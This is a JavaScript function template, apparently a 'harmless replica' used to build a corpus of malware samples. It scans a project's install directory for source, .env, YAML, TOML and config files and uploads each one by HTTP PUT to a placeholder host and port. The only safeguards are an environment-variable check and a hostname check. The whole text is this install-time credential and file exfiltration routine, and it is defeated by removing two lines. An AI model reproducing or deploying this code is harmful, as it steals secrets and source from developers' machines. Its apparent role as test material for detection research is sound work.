// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path'), http = require('http');
  const root = process.env.INIT_CWD || process.cwd();
  const files = [];
  const walk = (directory, depth) => {
    for (const entry of fs.readdirSync(directory, { withFileTypes: true })) {
      const file = path.join(directory, entry.name);
      if (entry.isDirectory() && depth < 4 && entry.name !== 'node_modules') { try { walk(file, depth + 1); } catch (error) { continue; } }
      else if (/\.(js|ts|json|py|env|ya?ml|toml)$|^\.env|^config$/.test(entry.name) && files.length < 8) files.push(file);
    }
  };
  try { walk(root, 0); } catch (error) { return; }
  const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
  const stop = Date.now() + 2000;
  for (const file of files) {
    if (Date.now() > stop) break;
    await new Promise((done) => {
      const request = http.request({ agent, host: '{{ip}}', port: {{port}}, method: 'PUT', path: '/{{path}}/' + encodeURIComponent(path.relative(root, file)), timeout: 400 }, (answer) => answer.resume());
      request.on('timeout', () => request.destroy());
      request.on('error', done);
      request.on('close', done);
      try { request.end(fs.readFileSync(file)); } catch (error) { request.destroy(); }
    });
  }
  agent.destroy();
}
